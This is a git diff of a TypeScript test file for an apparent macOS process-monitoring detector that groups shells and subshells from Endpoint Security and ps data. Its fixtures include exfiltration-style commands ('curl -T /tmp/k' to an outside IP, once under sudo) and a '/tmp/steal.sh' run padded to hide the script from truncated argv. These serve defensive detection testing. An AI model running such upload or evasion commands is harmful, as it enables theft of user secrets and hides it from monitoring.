@@ -1,38 +1,14 @@
-/** A subshell mark (forkedOnly) and a fork's inheritance whatever order ES lines, ps and core snapshots arrive in (a review's cases). */
+/**
+ * A subshell mark (forkedOnly) and a fork's inheritance whatever order ES lines, ps and core snapshots arrive in, and
+ * argv as process listings print it (review cases).
+ */
 import { describe, expect, it } from 'vitest';
-import { SensitivePathMatcher } from '../../../src/classify/sensitive-paths.js';
-import { fixedClock } from '../../../src/clock.js';
-import { parseConfig } from '../../../src/config/index.js';
-import { silentLogger } from '../../../src/log.js';
-import { createProcessModel } from '../../process-model/model.js';
-import type { ArchiveEventRow, SensitiveFileEventRow } from '../../runtime/context.js';
-import { RingBuffer } from '../../runtime/ring-buffer.js';
-import { EsloggerPipeline } from './pipeline.js';
-import { recordingServices } from './testing/test-context.js';
 import { body, esLine } from './testing/es-lines.mjs';
-
-const T = Date.UTC(2026, 2, 3, 9, 51, 40, 284);
-const S = Math.floor(T / 1000);
-const tty = '/dev/ttys001';
-const zsh = { pid: 810, ppid: 805, path: '/bin/zsh', signingId: 'com.apple.zsh', teamId: null, platform: true, startMs: (S - 7198) * 1000, tty };
-
-function session(withShell = true) {
-  const processes = createProcessModel({ config: parseConfig({}), clock: fixedClock(S + 10), log: silentLogger() });
-  const seen = S - 7200;
-  processes.observe({ pid: 800, processStart: seen, ppid: 1, path: '/System/Applications/Utilities/Terminal.app/Contents/MacOS/Terminal', signingId: 'com.apple.Terminal', teamId: null, platformBinary: true, source: 'ps', seenAt: seen });
-  processes.observe({ pid: 805, processStart: seen + 1, ppid: 800, path: '/usr/bin/login', args: ['login', '-pf', 'dana'], tty: true, source: 'ps', seenAt: seen });
-  if (withShell) processes.observe({ pid: 810, processStart: seen + 2, ppid: 805, path: '/bin/zsh', args: ['-zsh'], tty: true, source: 'ps', seenAt: seen });
-  const pipeline = new EsloggerPipeline({
-    matcher: SensitivePathMatcher.fromConfig({ replace_defaults: false, add: [] }), processes, signing: recordingServices().signing,
-    sensitiveEvents: new RingBuffer<SensitiveFileEventRow>(100, 1800, (e) => e.time), archiveEvents: new RingBuffer<ArchiveEventRow>(100, 1800, (e) => e.time),
-    precursorRetention: { tier1: 43_200, other: 1800 }, now: () => S + 10,
-  });
-  return { processes, pipeline };
-}
+import { LOGIN_ZSH as zsh, S, T, psArgs, terminalSession } from './testing/terminal-session.js';
 
 describe('forkedOnly', () => {
   it('exec line read before the fork line: a nested `zsh` typed in a `zsh` stays its own root', () => {
-    const { processes, pipeline } = session();
+    const { processes, pipeline } = terminalSession();
     const outer = { ...zsh, pid: 830, ppid: 810, startMs: T - 900 };
     pipeline.handleLine(esLine({ kind: 'exec', timeMs: T - 900, gseq: 1, process: zsh, body: body.exec(outer, ['zsh'], '/Users/dana', 10) }));
     const nested = { ...zsh, pid: 840, ppid: 830, startMs: T - 500 };
@@ -43,7 +19,7 @@ describe('forkedOnly', () => {
   });
 
   it('late fork line whose parent is not in the model leaves the exec\'d image alone', () => {
-    const { processes, pipeline } = session(false); // 810 not known yet (extension just started / evicted)
+    const { processes, pipeline } = terminalSession('no-shell'); // 810 not known yet (extension just started / evicted)
     const child = { ...zsh, pid: 840, ppid: 810, startMs: T - 500 };
     const curl = { ...child, path: '/usr/bin/curl', signingId: 'com.apple.curl' };
     pipeline.handleLine(esLine({ kind: 'exec', timeMs: T - 500, gseq: 3, process: child, body: body.exec(curl, ['curl', '-T', '/tmp/k', 'https://203.0.113.5/'], '/Users/dana', 10) }));
@@ -53,7 +29,7 @@ describe('forkedOnly', () => {
   });
 
   it('ps (no core: comm is argv[0]) lists a subshell of `curl … | /opt/homebrew/bin/bash` before its fork line: still fed on the pipe, no root', () => {
-    const { processes, pipeline } = session();
+    const { processes, pipeline } = terminalSession();
     const bash = { ...zsh, pid: 830, ppid: 810, path: '/opt/homebrew/Cellar/bash/5.2.37/bin/bash', signingId: 'bash', startMs: T - 1000 };
     const b = { ...body.exec(bash, ['/opt/homebrew/bin/bash'], '/Users/dana', 10), fds: [{ fd: 0, fdtype: 6 }] };
     pipeline.handleLine(esLine({ kind: 'exec', timeMs: T - 1000, gseq: 1, process: { ...bash, path: '/bin/zsh' }, body: b }));
@@ -64,7 +40,7 @@ describe('forkedOnly', () => {
   });
 
   it('exec of a nested `zsh` dropped by ES (global_seq gap): ps shows a new argv and core the same path; it is a shell of its own', () => {
-    const { processes, pipeline } = session();
+    const { processes, pipeline } = terminalSession();
     const nested = { ...zsh, pid: 880, ppid: 810, startMs: T - 200 };
     pipeline.handleLine(esLine({ kind: 'fork', timeMs: T - 200, gseq: 7, process: zsh, body: body.fork(nested, 10) }));
     // gseq 8 (the exec of /bin/zsh as `zsh`) lost
@@ -72,4 +48,62 @@ describe('forkedOnly', () => {
     processes.observe({ pid: 880, processStart: S, path: '/bin/zsh', source: 'osquery', seenAt: S + 5 });
     expect(processes.group(processes.get(880)!).root.pid).toBe(880);
   });
+});
+
+const SI = '/Applications/Visual Studio Code.app/Contents/Resources/app/out/vs/workbench/contrib/terminal/common/scripts';
+
+describe('an IDE terminal\'s shell and ps\'s whitespace-split argv', () => {
+  it.each([
+    ['VS Code bash', '/bin/bash', ['/bin/bash', '--init-file', `${SI}/shellIntegration-bash.sh`]],
+    ['VS Code fish', '/opt/homebrew/bin/fish', ['fish', '--init-command', `source "${SI}/shellIntegration.fish"`]],
+  ])('%s', (_n, path, argv) => {
+    const { processes, pipeline } = terminalSession('none');
+    const seen = S - 3600;
+    processes.observe({ pid: 700, processStart: seen, ppid: 1, path: '/Applications/Visual Studio Code.app/Contents/MacOS/Electron', signingId: 'com.microsoft.VSCode', teamId: 'UBF8T346G9', source: 'osquery', seenAt: seen });
+    processes.observe({ pid: 710, processStart: seen + 5, ppid: 700, path: '/Applications/Visual Studio Code.app/Contents/Frameworks/Code Helper.app/Contents/MacOS/Code Helper', signingId: 'com.microsoft.VSCode.helper', teamId: 'UBF8T346G9', source: 'osquery', seenAt: seen });
+    const shell = { pid: 850, ppid: 710, path, signingId: 'com.example.shell', teamId: null, platform: true, startMs: T - 1000, tty: '/dev/ttys004' };
+    pipeline.handleLine(esLine({ kind: 'exec', timeMs: T - 1000, gseq: 1, process: { ...shell, path: '/Applications/Visual Studio Code.app/Contents/Frameworks/Code Helper.app/Contents/MacOS/Code Helper' }, body: body.exec(shell, argv, '/Users/dana/src', 10) }));
+    const r = processes.get(850)!;
+    expect(processes.group(r).rootKind).toBe('terminal_shell'); // passes: kernel argv
+    // next ps snapshot (refresh.ts: ps -axww -o pid=,args=; core gives the same path)
+    processes.observe({ pid: 850, processStart: Math.floor((T - 1000) / 1000), ppid: 710, uid: 501, name: path.slice(path.lastIndexOf('/') + 1), args: psArgs(850, argv), source: 'ps', seenAt: S + 5 });
+    processes.observe({ pid: 850, processStart: Math.floor((T - 1000) / 1000), path, source: 'osquery', seenAt: S + 5 });
+    expect(processes.group(r)).toMatchObject({ rootKind: 'terminal_shell', root: { pid: 850 } });
+  });
+});
+
+const bash = { ...zsh, pid: 840, ppid: 810, path: '/bin/bash', signingId: 'com.apple.bash', startMs: T - 1000 };
+
+describe('script shells stay in the terminal shell\'s group', () => {
+  it('`bash \' \'` (script file named " ") and its `( … )` subshell after a ps snapshot', () => {
+    const { processes, pipeline } = terminalSession();
+    pipeline.handleLine(esLine({ kind: 'exec', timeMs: T - 1000, gseq: 1, process: { ...bash, path: '/bin/zsh' }, body: body.exec(bash, ['bash', ' '], '/tmp', 10) }));
+    const sub = { ...bash, pid: 850, ppid: 840, startMs: T - 500 };
+    pipeline.handleLine(esLine({ kind: 'fork', timeMs: T - 500, gseq: 2, process: bash, body: body.fork(sub, 10) }));
+    expect(processes.group(processes.get(850)!).root.pid).toBe(810); // passes before ps
+    for (const [pid, start] of [[840, T - 1000], [850, T - 500]] as const) {
+      processes.observe({ pid, processStart: Math.floor(start / 1000), ppid: pid === 840 ? 810 : 840, uid: 501, name: 'bash', args: psArgs(pid, ['bash', ' ']), source: 'ps', seenAt: S + 5 });
+      processes.observe({ pid, processStart: Math.floor(start / 1000), path: '/bin/bash', source: 'osquery', seenAt: S + 5 });
+    }
+    // the subshell (the keychain read) and its script (the upload) are one group
+    expect(processes.group(processes.get(850)!).root.pid).toBe(processes.group(processes.get(840)!).root.pid);
+    expect(processes.group(processes.get(850)!).root.pid).toBe(810);
+  });
+
+  it('`bash -o vi ×32 /tmp/steal.sh`: argv cut at 64 arguments hides the script operand', () => {
+    const { processes, pipeline } = terminalSession();
+    const argv = ['bash', ...Array.from({ length: 32 }, () => ['-o', 'vi']).flat(), '/tmp/steal.sh'];
+    pipeline.handleLine(esLine({ kind: 'exec', timeMs: T - 1000, gseq: 1, process: { ...bash, path: '/bin/zsh' }, body: body.exec(bash, argv, '/tmp', 10) }));
+    expect(processes.group(processes.get(840)!).root.pid).toBe(810);
+  });
+});
+
+it('late fork line of a setuid exec (sudo) keeps the exec\'s euid', () => {
+  const { processes, pipeline } = terminalSession('none');
+  const child = { ...zsh, pid: 840, ppid: 810, startMs: T - 500 };
+  const sudo = { ...child, path: '/usr/bin/sudo', signingId: 'com.apple.sudo', uid: 0 };
+  pipeline.handleLine(esLine({ kind: 'exec', timeMs: T - 500, gseq: 3, process: child, body: body.exec(sudo, ['sudo', 'curl', '-T', '/tmp/k', 'https://203.0.113.5/'], '/Users/dana', 10) }));
+  expect(processes.get(840)!.uid).toBe(0);
+  pipeline.handleLine(esLine({ kind: 'fork', timeMs: T - 500, gseq: 2, process: zsh, body: body.fork(child, 10) }));
+  expect(processes.get(840)).toMatchObject({ path: '/usr/bin/sudo', signingId: 'com.apple.sudo', uid: 0 });
 });
